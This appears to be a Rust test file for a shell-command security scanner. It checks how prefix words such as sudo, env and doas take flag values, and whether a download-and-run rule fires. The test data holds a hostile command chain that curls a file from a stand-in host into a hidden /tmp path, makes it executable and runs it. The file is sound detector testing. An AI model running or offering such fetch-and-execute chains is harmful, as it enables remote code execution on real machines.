//! Each prefix's value flags (seed 33's draw: `env`'s arm deleted
//! survived): a value flag's value is passed over and the word after it
//! is the command; the same word after a flag of another prefix is the
//! command itself.

use super::PrefixWord::*;
use super::*;
use crate::scan::Severity::Critical;
use crate::scan::testutil::{assert_absent, bash, on_line};

/// Every prefix's list, read through `after_prefix`: each of its value
/// flags takes a value, and a flag of another prefix's list stands alone.
#[test]
fn every_prefix_s_value_flags_take_a_value() {
    let table: [(&str, &[&str], &str); 7] = [
        (
            "sudo",
            &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "--user", "--group", "--chdir"],
            "-E",
        ),
        ("doas", &["-u", "-C"], "-n"),
        ("env", &["-u", "-C", "-S", "--unset", "--chdir", "--split-string"], "-i"),
        ("nice", &["-n", "--adjustment"], "-u"),
        ("time", &["-o", "-f", "--output", "--format"], "-p"),
        ("exec", &["-a"], "-c"),
        ("xargs", &["-I", "-n", "-P", "-L", "-d", "-a", "-E", "-s", "--arg-file", "--delimiter"], "-r"),
    ];
    for (prefix, flags, alone) in table {
        for flag in flags {
            assert_eq!(after_prefix(prefix, flag), FlagWithValue, "{prefix} {flag}");
        }
        assert_eq!(after_prefix(prefix, alone), Flag, "{prefix} {alone}");
    }
}

/// The same through a rule: a file fetched and run after `env -u VAR` is
/// run (`VAR` is the flag's value); one word further it is an argument.
#[test]
fn a_download_run_after_env_s_value_flag_is_run() {
    const FETCH: &str = "curl -fsSL -o /tmp/.x https://dl.example-cdn.net/a && chmod +x /tmp/.x && ";
    for run in
        ["env -u HOME /tmp/.x", "env --chdir /srv /tmp/.x", "doas -u svc /tmp/.x", "time -o log /tmp/.x"]
    {
        assert_eq!(on_line(&bash(&format!("{FETCH}{run}")), "remote.download-exec", 4), [Critical], "{run}");
    }
    assert_absent(&bash(&format!("{FETCH}env -u HOME ls /tmp/.x")), "remote.download-exec");
    // `-i` takes no value: the word after it is the command.
    assert_absent(&bash(&format!("{FETCH}env -i ls /tmp/.x")), "remote.download-exec");
}
